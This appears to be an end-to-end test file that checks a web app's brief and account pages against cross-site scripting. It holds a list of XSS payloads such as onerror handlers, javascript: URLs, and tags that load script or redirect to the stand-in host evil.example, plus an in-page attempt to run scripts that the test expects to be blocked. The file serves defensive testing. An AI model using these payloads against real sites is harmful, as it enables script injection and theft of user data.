import { serveSimulatedDay } from '../../apps/web/test/served/served-day.ts'
import { CALM_DAY, createSimulatedDay } from '../../apps/web/test/served/simulated-day.ts'
import { createTestPerson, registerPerson, signInWithoutForm } from '../support/people.ts'
import { expect, test } from '../support/visit.ts'

/** Texts that would run a script, load something or change the page if they became markup. */
const VECTORS = [
  '<script>alert(1)</script>',
  '<script src=//evil.example/x.js></script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe src=javascript:alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<a href="javascript:alert(1)">go</a>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<object data=javascript:alert(1)>',
  '<embed src=javascript:alert(1)>',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>body{display:none}</style>',
  '<form action=//evil.example><button>go</button></form>',
  '<math><mtext><img src=x onerror=alert(1)></mtext></math>',
  '&#60;img src=x onerror=alert(1)&#62;',
]
/** What closes the place that a text could be in: nothing, attributes, elements, comments, and our own bold text. */
const PREFIXES = ['', '">', "'>", '</title></script></style>', 'x-->', '**b** ']
const HOSTILE = PREFIXES.flatMap((prefix) => VECTORS.map((vector) => `${prefix}${vector}`))

const PER_LOAD = 20

const asShown = (hostile: string): string => hostile.replace('**b** ', '')

test('120 hostile texts in a brief are shown as text: none runs, loads or changes anything', async ({ page }) => {
  let dialogs = 0
  page.on('dialog', async (dialog) => {
    dialogs += 1
    await dialog.dismiss()
  })
  let from = 0
  await serveSimulatedDay(page, createSimulatedDay(CALM_DAY), {
    latest: (brief) => {
      const [title, summaryInsight, trendCaption, ...others] = HOSTILE.slice(from, from + PER_LOAD)
      return { ...brief, title, summaryInsight, trendCaption, narrative: others.join('\n\n') }
    },
  })
  for (; from < HOSTILE.length; from += PER_LOAD) {
    await page.goto('/brief?zone=HOUSTON')
    for (const hostile of HOSTILE.slice(from, from + PER_LOAD))
      await expect(page.locator('body')).toContainText(asShown(hostile))
    const made =
      'img[src=x], iframe, object, embed, base, meta[http-equiv=refresh], math, [onerror], [onload], [ontoggle]'
    await expect(page.locator(made)).toHaveCount(0)
    await expect(page.locator('[href^=javascript], [href*=evil], [src*=evil], [action*=evil]')).toHaveCount(0)
  }
  expect([HOSTILE.length, dialogs]).toEqual([120, 0])
})

test('a name that looks like markup is shown as text on every page that has it', async ({ page }) => {
  const firstName = '<img src=x onerror=alert(1)>'
  await signInWithoutForm(page, await registerPerson(page.request, { ...createTestPerson(), firstName }))
  await page.goto('/account')
  await expect(page.getByLabel('First name')).toHaveValue(firstName)
  await expect(page.getByRole('banner')).toContainText(firstName)
  await expect(page.locator('img[src=x]')).toHaveCount(0)
})

test('a script that gets into a page is blocked: inline, in markup, as text for a timer, from another host', async ({
  page,
  watched,
}) => {
  await page.goto('/')
  await page.evaluate(() => {
    const ways = [
      () => {
        const script = document.createElement('script')
        script.append('window.hasRun = "inline"')
        document.body.append(script)
      },
      () => {
        const script = document.createElement('script')
        script.src = 'https://evil.example/x.js'
        document.body.append(script)
      },
      () => {
        document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.hasRun = `markup`">')
      },
      () => setTimeout('window.hasRun = "timer"', 0),
    ]
    for (const way of ways) {
      try {
        way()
      } catch {
        // The policy for trusted types refuses most ways before the one for scripts can.
      }
    }
  })
  await expect.poll(() => watched.violations.length).toBeGreaterThanOrEqual(4)
  expect(await page.evaluate(() => (window as { hasRun?: string }).hasRun)).toBeUndefined()
  expect(watched.foreign).toEqual([])
  watched.violations.length = 0
})
